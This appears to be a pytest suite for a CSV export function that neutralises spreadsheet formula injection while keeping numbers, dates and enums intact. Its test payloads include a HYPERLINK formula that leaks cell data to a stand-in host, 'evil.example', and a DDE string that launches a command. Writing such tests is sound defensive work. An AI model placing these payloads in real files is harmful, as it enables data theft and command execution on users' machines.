"""CSV exports: every cell a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import StrEnum
from typing import Any

import pytest

from flows.export import safe_cell, to_csv

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",  # a leading tab
    "\r=1+1",  # a leading carriage return
    "=1+1",
    "-",
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_prefixed_with_a_quote(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "text",
    [
        "Corrie GSME 2",
        "a=b",
        "x-1",
        " =1+1",  # a spreadsheet reads a leading space as text
        "'=already quoted",
        "",
        "<script>alert(1)</script>",
    ],
)
def test_ordinary_text_is_kept_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-3.10"), "-3.10"),
        (0, "0"),
        (13295, "13295"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (date(2026, 11, 30), "2026-11-30"),
        (datetime(2026, 11, 19, 10, 2, 11, tzinfo=UTC), "2026-11-19T10:02:11+00:00"),
    ],
)
def test_numbers_stay_numbers_and_other_values_are_written_plainly(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_float_that_is_not_a_number_is_text_and_neutralised() -> None:
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(float("nan")) == "nan"


def test_an_enum_is_written_as_its_value_and_still_checked() -> None:
    class Kind(StrEnum):
        PLAIN = "GSME"
        FORMULA = "=1+1"

    assert safe_cell(Kind.PLAIN) == "GSME"
    assert safe_cell(Kind.FORMULA) == "'=1+1"


def test_a_supplier_telephone_number_is_kept_as_text() -> None:
    assert safe_cell("+44 20 7946 0350") == "'+44 20 7946 0350"


def test_to_csv_neutralises_every_cell_and_keeps_the_columns_in_order() -> None:
    rows: list[dict[str, Any]] = [
        {"case": "1", "model_name": PAYLOADS[0], "affected_devices": 13295, "ignored": "=1"},
        {"case": "2", "model_name": "+cmd|' /C calc'!A0", "affected_devices": -5},
        {"case": "3"},  # missing keys are empty cells
    ]

    text = to_csv(rows, ["case", "model_name", "affected_devices"])

    assert text.endswith("\r\n")
    assert parsed(text) == [
        ["case", "model_name", "affected_devices"],
        ["1", "'" + PAYLOADS[0], "13295"],
        ["2", "'+cmd|' /C calc'!A0", "-5"],
        ["3", "", ""],
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_reads_back_neutralised_through_a_csv_reader(payload: str) -> None:
    text = to_csv([{"value": payload}], ["value"])
    (header, (cell,)) = parsed(text)
    assert header == ["value"]
    assert cell == "'" + payload


def test_separators_quotes_and_new_lines_stay_inside_their_cell() -> None:
    tricky = 'a,b;"c"\r\nd,=1+1'
    assert parsed(to_csv([{"x": tricky, "y": "next"}], ["x", "y"])) == [["x", "y"], [tricky, "next"]]


def test_header_cells_are_neutralised_too() -> None:
    assert parsed(to_csv([], ["=cmd", "ok"])) == [["'=cmd", "ok"]]


def test_to_csv_refuses_what_it_cannot_write_whole() -> None:
    with pytest.raises(ValueError, match="at least one column"):
        to_csv([{"a": 1}], [])
    with pytest.raises(ValueError, match="named more than once: a"):
        to_csv([{"a": 1}], ["a", "b", "a"])
    rows: list[Any] = [{"a": 1}, ["a"]]
    with pytest.raises(TypeError, match="row 2 is a list, not a mapping"):
        to_csv(rows, ["a"])
